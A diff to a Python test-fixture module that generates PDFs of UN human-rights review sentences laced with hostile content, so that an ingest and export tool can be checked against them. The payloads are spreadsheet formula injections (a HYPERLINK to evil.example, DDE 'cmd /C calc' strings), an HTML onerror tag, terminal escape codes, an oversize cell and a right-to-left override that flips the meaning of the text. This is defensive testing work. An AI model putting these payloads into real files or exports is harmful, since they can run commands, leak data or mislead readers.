@@ -14,6 +14,7 @@ from __future__ import annotations
 import io
 import random
 import sys
+import textwrap
 import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -195,6 +196,90 @@ CORPUS: tuple[Hostile, ...] = (
 )
 
 
+@dataclass(frozen=True, slots=True)
+class HostileText:
+    """A readable PDF whose text is hostile to what uprdex writes out: one sentence, the first
+    of its document, citing a recommendation of Slovenia's 2014 review (A/HRC/28/15, the
+    fixture slovenia2014_recs.pdf). Ingest must keep the sentence exactly as evidence of
+    `cites`; every export and the HTML report must carry it, and no spreadsheet may run it."""
+
+    name: str
+    kind: str
+    sentence: str
+    cites: str
+
+    def make(self) -> bytes:
+        """The PDF: the sentence on lines of at most 90 characters (joined by one space)."""
+        return text_pdf(textwrap.wrap(self.sentence, 90, break_on_hyphens=False))
+
+
+LONG_PARAGRAPH_CHARS = 40_000
+_LONG_OPENING = "Recommendation 115.22 of A/HRC/28/15 on the Ombudsman is still not implemented"
+_LONG_FILLER = (
+    ", and the institutions tasked with protecting human rights lack the powers they need"
+)
+
+TEXTS: tuple[HostileText, ...] = (
+    HostileText(
+        "formula_equals.pdf",
+        "text opening with = (a live HYPERLINK formula)",
+        '=HYPERLINK("http://evil.example/?d=1","Read") recommendation 115.18 of A/HRC/28/15 '
+        "is still not implemented.",
+        "A/HRC/28/15#115.18",
+    ),
+    HostileText(
+        "formula_plus.pdf",
+        "text opening with + (a DDE command)",
+        "+cmd|' /C calc'!A0 and recommendation 115.8 of A/HRC/28/15 was never implemented.",
+        "A/HRC/28/15#115.8",
+    ),
+    HostileText(
+        "formula_at.pdf",
+        "text opening with @ (a function call)",
+        "@SUM(1+9)*cmd|' /C calc'!A0 and recommendation 115.9 of A/HRC/28/15 is ignored.",
+        "A/HRC/28/15#115.9",
+    ),
+    HostileText(
+        "formula_minus.pdf",
+        "text opening with - (arithmetic that runs a command) and holding an HTML tag",
+        "-2+3+cmd|' /C calc'!A0 <img src=x onerror=alert(1)> recommendation 115.10 of "
+        "A/HRC/28/15 is ignored.",
+        "A/HRC/28/15#115.10",
+    ),
+    HostileText(
+        "control_characters.pdf",
+        "control characters (bell, escape, start of heading, backspace, delete, shift out)",
+        "Recommendation 115.11 of A/HRC/28/15 \x07rings\x1b[31m red\x01 and \x08\x7f\x0e goes "
+        "back unimplemented.",
+        "A/HRC/28/15#115.11",
+    ),
+    HostileText(
+        "long_paragraph.pdf",
+        f"one paragraph of {LONG_PARAGRAPH_CHARS:,} characters (over a spreadsheet cell's 32,767)",
+        (
+            _LONG_OPENING
+            + _LONG_FILLER * ((LONG_PARAGRAPH_CHARS - len(_LONG_OPENING) - 1) // len(_LONG_FILLER))
+        ).ljust(LONG_PARAGRAPH_CHARS - 1, "!")
+        + ".",
+        "A/HRC/28/15#115.22",
+    ),
+    HostileText(
+        "rtl_override.pdf",
+        "a right-to-left override (U+202E) that shows 'implemented' for what is printed",
+        "Recommendation 115.18 of A/HRC/28/15 was \u202edetnemelpmi ton\u202c by the Government.",
+        "A/HRC/28/15#115.18",
+    ),
+)
+
+
+def make_texts(folder: Path) -> list[HostileText]:
+    """Write the hostile texts in `folder`; returns them."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for item in TEXTS:
+        (folder / item.name).write_bytes(item.make())
+    return list(TEXTS)
+
+
 def make_corpus(inbox: Path, outside: Path) -> list[Hostile]:
     """Write the hostile corpus in `inbox` (the symlink's target in `outside`); returns the
     entries made (those of the shared corpus only when it is present)."""
@@ -361,23 +446,59 @@ def _laughs() -> bytes:
     )
 
 
-def text_pdf(lines: list[str]) -> bytes:
-    """A one-page A4 PDF printing these lines in Helvetica 10 pt (Latin-1 text only)."""
-    ops = [b"BT /F1 10 Tf 14 TL 60 770 Td"]
-    for line in lines:
-        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
-        ops.append(b"(%s) Tj T*" % escaped.encode("latin-1"))
-    ops.append(b"ET")
-    return _pdf(
-        [
-            b"<< /Type /Catalog /Pages 2 0 R >>",
-            b"<< /Type /Pages /Kids [4 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
-            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-            b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R "
-            b"/Resources << /Font << /F1 3 0 R >> >> >>",
-            _stream(b"\n".join(ops)),
-        ]
+def text_pdf(lines: list[str], per_page: int = 50) -> bytes:
+    """A PDF printing these lines in Helvetica 10 pt, `per_page` lines to an A4 page.
+
+    Any Unicode text: printable ASCII is printed as itself, and each other character (up to
+    160 of them: "é", a control character, U+202E) gets a spare code of the font that its
+    ToUnicode map gives back, as the subset fonts of PDF makers do.
+    """
+    spare = [*range(0x01, 0x20), *range(0x7F, 0x100)]
+    codes: dict[str, int] = {}
+
+    def encode(line: str) -> bytes:
+        out = bytearray()
+        for char in line:
+            if " " <= char <= "~":
+                out += b"\\" + char.encode() if char in "\\()" else char.encode()
+            else:
+                out += b"\\%03o" % codes.setdefault(char, spare[len(codes)])
+        return bytes(out)
+
+    pages = [lines[i : i + per_page] for i in range(0, len(lines), per_page)] or [[]]
+    contents = [
+        _stream(
+            b"\n".join(
+                [b"BT /F1 10 Tf 14 TL 60 770 Td", *(b"(%s) Tj T*" % encode(x) for x in page), b"ET"]
+            )
+        )
+        for page in pages
+    ]
+    first = 5  # objects 5, 7, 9 ... are the pages, each followed by its content stream
+    kids = b" ".join(b"%d 0 R" % (first + 2 * i) for i in range(len(pages)))
+    mapped = b"\n".join(b"<%02X> <%04X>" % (code, ord(char)) for char, code in codes.items())
+    to_unicode = (
+        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
+        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
+        b"/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
+        b"1 begincodespacerange <00> <FF> endcodespacerange\n"
+        b"1 beginbfrange <20> <7E> <0020> endbfrange\n"
+        + (b"%d beginbfchar\n%s\nendbfchar\n" % (len(codes), mapped) if codes else b"")
+        + b"endcmap CMapName currentdict /CMap defineresource pop end end"
     )
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>" % (kids, len(pages)),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 4 0 R >>",
+        _stream(to_unicode),
+    ]
+    for number, content in enumerate(contents):
+        objects.append(
+            b"<< /Type /Page /Parent 2 0 R /Contents %d 0 R "
+            b"/Resources << /Font << /F1 3 0 R >> >> >>" % (first + 2 * number + 1)
+        )
+        objects.append(content)
+    return _pdf(objects)
 
 
 def _stream(data: bytes, entries: bytes = b"") -> bytes:
